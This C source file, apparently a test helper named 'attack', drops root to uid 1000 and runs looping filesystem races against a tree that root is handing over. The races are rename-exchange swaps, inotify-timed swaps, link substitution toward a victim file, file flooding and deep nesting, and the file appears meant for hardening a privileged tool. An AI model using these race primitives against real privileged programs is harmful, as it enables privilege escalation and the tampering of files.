/* SPDX-License-Identifier: ISC */
/*
 * What uid 1000 may do to a tree of its own while root hands it over, again
 * and again until killed.  Root becomes uid 1000; others stay who they are.
 * usage: attack swap A B         exchange A and B
 *        attack meet DIRECTORY A B  exchange them at each look into DIRECTORY
 *        attack move A B         rename A to B, and back
 *        attack link VICTIM NAME make a file NAME, then a link to VICTIM
 *        attack fill DIRECTORY      make files
 *        attack flash DIRECTORY     make files, and remove them
 *        attack deepen DIRECTORY    make directories in directories
 */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <signal.h>
#include <unistd.h>

static void
check(int result, const char *what)
{
	if (result >= 0)
		return;
	fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
	exit(99);
}

static void
swap(char **path)
{
	for (;;)
		renameat2(AT_FDCWD, path[0], AT_FDCWD, path[1],
			  RENAME_EXCHANGE);
}

static void
meet(char **path)
{
	char events[4096];
	int fd = inotify_init1(0);

	check(fd, "inotify");
	check(inotify_add_watch(fd, path[0], IN_OPEN | IN_ACCESS), path[0]);
	while (read(fd, events, sizeof events) > 0)
		renameat2(AT_FDCWD, path[1], AT_FDCWD, path[2],
			  RENAME_EXCHANGE);
}

static void
move(char **path)
{
	for (;;) {
		rename(path[0], path[1]);
		rename(path[1], path[0]);
	}
}

static void
link_again(char **path)
{
	for (;;) {
		close(open(path[1], O_CREAT | O_WRONLY, 0644));
		unlink(path[1]);
		if (link(path[0], path[1]) < 0 && errno == EPERM)
			check(-1, path[0]);
		unlink(path[1]);
	}
}

static void
fill(char **path, int keep)
{
	char name[64];

	check(chdir(path[0]), path[0]);
	for (unsigned long i = 0;; i++) {
		snprintf(name, sizeof name, "%d-%lu", getpid(), i);
		close(open(name, O_CREAT | O_WRONLY, 0644));
		if (!keep && i >= 100) {
			snprintf(name, sizeof name, "%d-%lu", getpid(),
				 i - 100);
			unlink(name);
		}
	}
}

static void
deepen(char **path)
{
	check(chdir(path[0]), path[0]);
	while (mkdir("d", 0755) == 0 && chdir("d") == 0)
		;
	pause();
}

int
main(int argc, char **argv)
{
	const char *what = argc > 2 ? argv[1] : "";
	int parent = getppid();

	if (geteuid() == 0) {
		check(setgroups(0, NULL), "setgroups");
		check(setresgid(1000, 1000, 1000), "setresgid");
		check(setresuid(1000, 1000, 1000), "setresuid");
	}
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (getppid() != parent)
		return 99;
	if (strcmp(what, "swap") == 0)
		swap(argv + 2);
	else if (strcmp(what, "meet") == 0)
		meet(argv + 2);
	else if (strcmp(what, "move") == 0)
		move(argv + 2);
	else if (strcmp(what, "link") == 0)
		link_again(argv + 2);
	else if (strcmp(what, "fill") == 0)
		fill(argv + 2, 1);
	else if (strcmp(what, "flash") == 0)
		fill(argv + 2, 0);
	else if (strcmp(what, "deepen") == 0)
		deepen(argv + 2);
	return 99;
}
